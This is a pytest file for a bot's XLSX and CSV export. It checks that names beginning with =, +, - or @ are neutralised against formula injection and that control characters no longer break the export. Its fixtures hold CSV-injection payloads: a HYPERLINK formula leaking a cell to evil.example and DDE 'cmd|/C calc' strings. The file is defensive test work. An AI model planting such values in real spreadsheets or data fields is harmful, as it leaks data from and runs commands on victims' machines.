"""No live formula leaves the database in a spreadsheet: unit and person names (and any text)
starting with = + - @ are written as text in every XLSX sheet and neutralised in every CSV
(OWASP), the original text stays visible; a control character in a name no longer makes the
export fail (IllegalCharacterError)."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import col
from typer.testing import CliRunner

from bot.cli.main import app
from bot.export import write_csv, write_xlsx
from storage.db import Database
from storage.models import Person, Unit
from storage.sheets import CsvWriter, csv_field
from tests.figures_fixtures import reference_tree, utc
from tests.test_people_cli import cli as people_cli

AS_OF = utc(2016, 10, 15, 12, 0)
HOSTILE = {
    "C11": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "C12": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C13": "+84 912 345 678",
    "H2": "-2+3 Thành ủy",
    "C21": "\tTab ẩn",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


async def hostile_world(db: Database) -> int:
    async with db.write() as session:
        ref = await reference_tree(session)
        for code, name in HOSTILE.items():
            await session.execute(update(Unit).where(col(Unit.code) == code).values(name=name))
        # A control character that openpyxl refuses to write, in a unit and a person's name.
        await session.execute(
            update(Unit).where(col(Unit.code) == "H1").values(name="Huyện\x07 ủy\x1b H1")
        )
        await session.execute(update(Person).values(full_name="=1+1 Người báo cáo"))
        return ref.campaign_id


async def test_no_sheet_has_a_formula_and_the_text_reads_as_stored(
    db: Database, tmp_path: Path
) -> None:
    campaign_id = await hostile_world(db)
    out = tmp_path / "out.xlsx"
    async with db.read() as session:
        await write_xlsx(session=session, campaign_id=campaign_id, as_of=AS_OF, output=out)
    workbook = load_workbook(out)
    seen: set[str] = set()
    try:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        if cell.value.startswith(FORMULA_START):
                            assert cell.quotePrefix, (sheet.title, cell.coordinate)
    finally:
        workbook.close()
    for name in HOSTILE.values():
        assert name in seen  # exactly as stored, not with an added apostrophe
    assert "Huyện ủy H1" in seen  # the control characters were dropped, the export did not fail


async def test_the_csv_export_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    campaign_id = await hostile_world(db)
    out = tmp_path / "out.csv"
    async with db.read() as session:
        await write_csv(session=session, campaign_id=campaign_id, as_of=AS_OF, output=out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    for name in HOSTILE.values():
        assert "'" + name in fields


def test_csv_writer_and_field() -> None:
    assert csv_field("=1+1") == "'=1+1"
    assert csv_field("Chi bộ 1") == "Chi bộ 1"
    assert csv_field(-5) == -5  # numbers are numbers
    assert csv_field("\rx") == "'\rx"

    class Sink:
        def __init__(self) -> None:
            self.text = ""

        def write(self, text: str) -> int:
            self.text += text
            return len(text)

    sink = Sink()
    CsvWriter(sink).writerow(["@x", "y", 3])  # type: ignore[arg-type]
    assert sink.text == "'@x,y,3\r\n"


cli = people_cli  # the fixture: a fresh database with a small tree, through `cadrebot init`


def test_the_invite_csv_neutralises_unit_names(cli: tuple[CliRunner, str], tmp_path: Path) -> None:
    runner, url = cli

    async def rename() -> None:
        db = Database.from_url(url)
        try:
            async with db.write() as session:
                await session.execute(
                    update(Unit).where(col(Unit.code) == "X1").values(name="=cmd|'/C calc'!A0")
                )
        finally:
            await db.dispose()

    asyncio.run(rename())
    out = tmp_path / "invites.csv"
    command = ["invite", "create", "--role", "reporter", "--all-units", "--level", "co_so"]
    result = runner.invoke(app, [*command, "--output", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["X1"] == "'=cmd|'/C calc'!A0"
    assert not [f for row in rows for f in row if f.startswith(FORMULA_START)]
